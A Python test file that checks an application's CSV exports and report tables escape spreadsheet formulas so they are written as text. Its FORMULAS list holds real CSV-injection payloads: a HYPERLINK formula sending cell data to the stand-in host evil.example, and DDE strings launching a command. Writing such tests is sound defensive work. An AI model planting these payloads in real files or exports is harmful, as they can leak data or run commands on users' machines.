"""CSV exports and report tables never hand a spreadsheet a formula: a cell starting with `=`, `+`, `-`,
`@`, a tab or a carriage return is written as text (a leading apostrophe); plain numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

from sqlalchemy.orm import Session, sessionmaker
from tests.conftest import login

from tending.channel.models import Channel
from tending.connectors.bases.items import AuthorProfile, InboundItem
from tending.csvsafe import safe_cell
from tending.ingest.service import ingest_items
from tending.report.framework import Table, table_csv

PERIOD = "?since=2026-03-01&until=2026-03-09"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_become_text_and_numbers_stay() -> None:
    assert [safe_cell(v) for v in FORMULAS] == ["'" + v.replace("\r", "\n") for v in FORMULAS]
    for plain in ("-12", "+3.5", "-1e-3", ".5", "hello = world", "", "a-b", -4, 2.5, None):
        assert safe_cell(plain) == plain


def test_messages_export_neutralises_formulas(
    client: Any, world: Any, factory: sessionmaker[Session]
) -> None:
    with factory() as s:
        channel = s.get(Channel, world.channel.id)
        assert channel is not None
        items = [
            InboundItem(
                external_id=f"f{i}",
                kind="comment",
                text=text,
                created_at=datetime(2026, 3, 2, 9, i, tzinfo=UTC),
                author=AuthorProfile(external_id=f"a{i}", handle="=evil()"),
            )
            for i, text in enumerate(FORMULAS)
        ]
        ingest_items(s, channel=channel, items=items)
        s.commit()
    login(client, "mia@acme.test")
    url = f"/api/v1/workspaces/{world.workspace.id}/exports/messages"
    rows = list(csv.DictReader(io.StringIO(client.get(url + ".csv" + PERIOD).text, newline="")))
    got = {r["external_id"]: r["text"] for r in rows}
    expected = {f"f{i}": "'" + t.replace("\r", "\n") for i, t in enumerate(FORMULAS)}
    assert got == expected
    # JSON is data, not a spreadsheet: it keeps the text as it was.
    assert sorted(m["text"] for m in client.get(url + ".json" + PERIOD).json()) == sorted(FORMULAS)


def test_report_tables_neutralise_formulas() -> None:
    table = Table(key="t", title="T", columns=["who", "score"], rows=[["=cmd()", -0.5], ["@x", 3]])
    assert list(csv.reader(io.StringIO(table_csv(table)))) == [
        ["who", "score"],
        ["'=cmd()", "-0.5"],
        ["'@x", "3"],
    ]
